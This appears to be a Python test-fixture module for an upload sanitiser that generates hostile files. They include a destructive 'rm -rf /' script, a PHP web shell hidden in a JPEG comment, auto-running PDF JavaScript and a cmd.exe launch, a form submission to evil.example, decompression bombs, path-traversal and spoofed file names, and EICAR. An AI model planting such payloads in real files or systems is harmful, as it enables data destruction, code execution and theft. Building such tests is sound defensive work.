"""Hostile files by name: the bytes, the name they come under, the verdict they must get, and bytes that may not survive."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name, String
from PIL import Image

REFUSED, CLEANED = "refused", "cleaned"
SCRIPT = b"<script>alert('taken')</script>"
MARKER = b"app.alert.taken"
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR" + b"-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
GPS_MARKER = b"WHERE-ANA-LIVES"


@dataclass(frozen=True)
class Sample:
    """`forbidden` must not be in what is kept, however it is packed."""

    name: str
    file_name: str
    data: bytes
    verdict: str
    forbidden: tuple[bytes, ...] = ()


_makers: dict[str, tuple[str, str, tuple[bytes, ...], Callable[[], bytes]]] = {}


def sample(file_name: str, verdict: str, *forbidden: bytes) -> Callable[[Callable[[], bytes]], Callable[[], bytes]]:
    def register(make: Callable[[], bytes]) -> Callable[[], bytes]:
        _makers[make.__name__] = (file_name, verdict, forbidden, make)
        return make

    return register


def names() -> list[str]:
    return list(_makers)


def made(name: str) -> Sample:
    file_name, verdict, forbidden, make = _makers[name]
    return Sample(name, file_name, make(), verdict, forbidden)


def picture(kind: str = "JPEG", size: tuple[int, int] = (60, 40), **more: Any) -> bytes:
    out = io.BytesIO()
    Image.linear_gradient("L").resize(size).convert("RGB").save(out, format=kind, **more)
    return out.getvalue()


def pdf(fill: Callable[[pikepdf.Pdf, Any], None] | None = None, **save: Any) -> bytes:
    document = pikepdf.new()
    page = document.add_blank_page(page_size=(200, 200))
    if fill:
        fill(document, page)
    out = io.BytesIO()
    document.save(out, **save)
    return out.getvalue()


def script(kind: str = "/JavaScript") -> Dictionary:
    return Dictionary(S=Name(kind), JS=String(MARKER.decode()))


def zipped(packing: int = zipfile.ZIP_DEFLATED, **files: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", packing) as archive:
        for name, data in files.items():
            archive.writestr(name.replace("__", "/").replace("_dot_", "."), data)
    return out.getvalue()


# Files of other kinds under a harmless name.


@sample("drawing.svg", REFUSED)
def svg_with_script() -> bytes:
    return b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">' + SCRIPT + b"</svg>"


@sample("photo.png", REFUSED)
def svg_named_png() -> bytes:
    return b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg">' + SCRIPT + b"</svg>"


@sample("essay.pdf", REFUSED)
def html_named_pdf() -> bytes:
    return b"<!doctype html><html><body>" + SCRIPT + b"</body></html>"


@sample("page.html", REFUSED)
def html_page() -> bytes:
    return b"<html>" + SCRIPT


@sample("notes.pdf", REFUSED)
def eicar_named_pdf() -> bytes:
    return EICAR


@sample("report.docm", REFUSED)
def word_file_with_macros() -> bytes:
    return zipped(
        _Content_Types__dot_xml=b"<Types/>", word__vbaProject_dot_bin=b"Sub AutoOpen()", word__document=b"<w/>"
    )


@sample("sheet.pdf", REFUSED)
def old_office_file_named_pdf() -> bytes:
    return bytes.fromhex("d0cf11e0a1b11ae1") + bytes(2048)


@sample("photos.pdf", REFUSED)
def zip_bomb_named_pdf() -> bytes:
    return zipped(a=bytes(60_000_000))


@sample("movie.pdf", REFUSED)
def program_named_pdf() -> bytes:
    return b"MZ" + bytes(60) + b"PE\x00\x00" + bytes(400)


@sample("run.png", REFUSED)
def linux_program_named_png() -> bytes:
    return b"\x7fELF\x02\x01\x01" + bytes(400)


@sample("run.jpg", REFUSED)
def shell_script_named_jpg() -> bytes:
    return b"#!/bin/sh\nrm -rf /\n"


@sample("cat.gif", REFUSED)
def gif_that_is_also_script() -> bytes:
    return b"GIF89a/*" + bytes(20) + b"*/=1;alert('taken')"


@sample("feed.pdf", REFUSED)
def xml_with_entities() -> bytes:
    return b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;">]><r>&b;</r>'


# Files that are nothing whole.


@sample("empty.pdf", REFUSED)
def empty() -> bytes:
    return b""


@sample("short.pdf", REFUSED)
def one_byte() -> bytes:
    return b"%"


@sample("cut.pdf", REFUSED)
def pdf_cut_off() -> bytes:
    return b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog"


@sample("cut.jpg", REFUSED)
def jpeg_cut_off() -> bytes:
    return picture(size=(400, 300))[:700]


@sample("cut.png", REFUSED)
def png_cut_off() -> bytes:
    return picture("PNG", size=(400, 300))[:400]


@sample("broken.png", REFUSED)
def png_with_a_wrong_size() -> bytes:
    data = bytearray(picture("PNG"))
    data[16:24] = struct.pack(">II", 0, 0)
    return bytes(data)


@sample("locked.pdf", REFUSED)
def pdf_with_a_password() -> bytes:
    return pdf(encryption=pikepdf.Encryption(owner="owner", user="user"))


# Bombs: small on the way in, huge when they are opened.


def _png_of(width: int, height: int, pixels: bytes) -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")


@sample("huge.png", REFUSED)
def png_of_four_billion_pixels() -> bytes:
    return _png_of(65_000, 65_000, zlib.compress(bytes(1000)))


@sample("wide.png", REFUSED)
def png_of_too_many_pixels_that_packs_small() -> bytes:
    rows = zlib.compressobj(9)
    data = b"".join(rows.compress(bytes(1 + 3 * 7000)) for _ in range(7000)) + rows.flush()
    return _png_of(7000, 7000, data)


@sample("words.png", REFUSED)
def png_with_a_text_bomb() -> bytes:
    data = picture("PNG")
    words = b"Comment\x00\x00" + zlib.compress(bytes(400_000_000), 9)
    chunk = struct.pack(">I", len(words)) + b"zTXt" + words + struct.pack(">I", zlib.crc32(b"zTXt" + words))
    return data[:33] + chunk + data[33:]


@sample("bomb.pdf", REFUSED)
def pdf_whose_objects_unpack_to_a_gigabyte() -> bytes:
    """An object stream of 1.2 GB that any reader must unpack to find the objects."""
    packer = zlib.compressobj(9)
    head = b"5 0 <</Type/Catalog/Pages 2 0 R>>"
    packed = packer.compress(head) + b"".join(packer.compress(b" " * 10_000_000) for _ in range(120)) + packer.flush()
    parts = [b"%PDF-1.5\n"]
    offsets = {}

    def put(number: int, body: bytes) -> None:
        offsets[number] = sum(map(len, parts))
        parts.append(b"%d 0 obj\n" % number + body + b"\nendobj\n")

    put(2, b"<</Type/Pages/Kids[]/Count 0>>")
    put(4, b"<</Type/ObjStm/N 1/First 4/Length %d/Filter/FlateDecode>>stream\n" % len(packed) + packed + b"\nendstream")
    start = sum(map(len, parts))
    rows = {0: (0, 0, 65535), 2: (1, offsets[2], 0), 4: (1, offsets[4], 0), 5: (2, 4, 0), 6: (1, start, 0)}
    table = b"".join(struct.pack(">BIH", *rows.get(number, (0, 0, 0))) for number in range(7))
    parts.append(
        b"6 0 obj\n<</Type/XRef/Size 7/W[1 4 2]/Root 5 0 R/Length %d>>stream\n" % len(table)
        + table
        + b"\nendstream\nendobj\n"
    )
    return b"".join(parts) + b"startxref\n%d\n%%%%EOF" % start


@sample("deep.pdf", REFUSED)
def pdf_nested_a_million_deep() -> bytes:
    return b"%PDF-1.4\n1 0 obj\n" + b"[" * 1_000_000 + b"]" * 1_000_000 + b"\nendobj\ntrailer<</Root 1 0 R>>\n%%EOF"


# Two things at once, and passengers.


@sample("photo.jpg", CLEANED, SCRIPT)
def jpeg_that_is_also_html() -> bytes:
    return picture() + b"<html>" + SCRIPT + b"</html>"


@sample("photo.jpg", CLEANED, b"payload.exe", b"MZ-program")
def jpeg_that_is_also_a_zip() -> bytes:
    return picture() + zipped(zipfile.ZIP_STORED, payload_dot_exe=b"MZ-program" * 10)


@sample("photo.jpg", CLEANED, b"<?php", b"system(")
def jpeg_with_php_in_its_comment() -> bytes:
    return picture(comment=b"<?php system($_GET['c']); ?>")


@sample("photo.jpg", CLEANED, EICAR)
def jpeg_followed_by_eicar() -> bytes:
    return picture() + EICAR


@sample("home.jpg", CLEANED, GPS_MARKER, b"Exif")
def jpeg_with_gps() -> bytes:
    exif = Image.Exif()
    exif[0x010F] = GPS_MARKER.decode()
    exif.get_ifd(0x8825)[1] = "N"
    exif.get_ifd(0x8825)[2] = (29.0, 45.0, 12.0)
    return picture(exif=exif)


@sample("drawing.png", CLEANED, SCRIPT)
def png_with_script_in_its_text() -> bytes:
    data = picture("PNG")
    words = b"Title\x00" + SCRIPT
    chunk = struct.pack(">I", len(words)) + b"tEXt" + words + struct.pack(">I", zlib.crc32(b"tEXt" + words))
    return data[:33] + chunk + data[33:]


@sample("essay.pdf", CLEANED, SCRIPT)
def pdf_that_begins_as_html() -> bytes:
    return pdf() + b"\n<html>" + SCRIPT + b"</html>"


# PDFs that act, hide or tell.


@sample("essay.pdf", CLEANED, MARKER, b"/OpenAction")
def pdf_that_runs_when_opened() -> bytes:
    return pdf(lambda document, page: document.Root.__setattr__("OpenAction", script()))


@sample("essay.pdf", CLEANED, MARKER)
def pdf_with_named_scripts() -> bytes:
    def fill(document: pikepdf.Pdf, page: Any) -> None:
        document.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("x"), script()])))

    return pdf(fill)


@sample("essay.pdf", CLEANED, MARKER)
def pdf_with_script_hidden_in_escaped_names() -> bytes:
    data = pdf(lambda document, page: document.Root.__setattr__("OpenAction", script()))
    return data.replace(b"/JavaScript", b"/J#61vaScript").replace(b"/OpenAction", b"/Open#41ction")


@sample("essay.pdf", CLEANED, MARKER)
def pdf_with_script_packed_in_object_streams() -> bytes:
    return pdf(
        lambda document, page: document.Root.__setattr__("OpenAction", document.make_indirect(script())),
        object_stream_mode=pikepdf.ObjectStreamMode.generate,
    )


@sample("essay.pdf", CLEANED, b"cmd.exe")
def pdf_that_launches_a_program() -> bytes:
    def fill(document: pikepdf.Pdf, page: Any) -> None:
        act = Dictionary(S=Name("/Launch"), F=String("cmd.exe"))
        page.obj.Annots = Array([Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 9, 9], A=act)])

    return pdf(fill)


@sample("essay.pdf", CLEANED, EICAR)
def pdf_with_eicar_attached() -> bytes:
    def fill(document: pikepdf.Pdf, page: Any) -> None:
        document.attachments["virus.com"] = EICAR

    return pdf(fill)


@sample("essay.pdf", CLEANED, MARKER, b"/XFA")
def pdf_with_a_form_that_computes() -> bytes:
    def fill(document: pikepdf.Pdf, page: Any) -> None:
        document.Root.AcroForm = Dictionary(Fields=Array([]), XFA=String(MARKER.decode()))

    return pdf(fill)


@sample("essay.pdf", CLEANED, b"evil.example")
def pdf_that_sends_its_form_away() -> bytes:
    def fill(document: pikepdf.Pdf, page: Any) -> None:
        act = Dictionary(S=Name("/SubmitForm"), F=String("https://evil.example/take"))
        page.obj.AA = Dictionary(O=act)

    return pdf(fill)


@sample("essay.pdf", CLEANED, GPS_MARKER)
def pdf_with_a_photo_that_says_where() -> bytes:
    def fill(document: pikepdf.Pdf, page: Any) -> None:
        stream = document.make_stream(jpeg_with_gps())
        stream.stream_dict = Dictionary(
            Type=Name.XObject,
            Subtype=Name.Image,
            Width=60,
            Height=40,
            ColorSpace=Name.DeviceRGB,
            BitsPerComponent=8,
            Filter=Name.DCTDecode,
        )
        page.obj.Resources = Dictionary(XObject=Dictionary(Photo=stream))

    return pdf(fill)


@sample("essay.pdf", CLEANED, b"Ana Abrego")
def pdf_that_names_its_author() -> bytes:
    def fill(document: pikepdf.Pdf, page: Any) -> None:
        document.docinfo["/Author"] = "Ana Abrego"
        with document.open_metadata() as metadata:
            metadata["dc:creator"] = ["Ana Abrego"]

    return pdf(fill)


# Names that mean something to a file system or to an eye.


@sample("../../../etc/cron.d/take", CLEANED)
def name_that_climbs() -> bytes:
    return pdf()


@sample("essay\u202efdp.exe", CLEANED)
def name_that_reads_backwards() -> bytes:
    return pdf()


@sample("con.pdf\x00.exe", CLEANED)
def name_with_a_null() -> bytes:
    return picture("PNG")
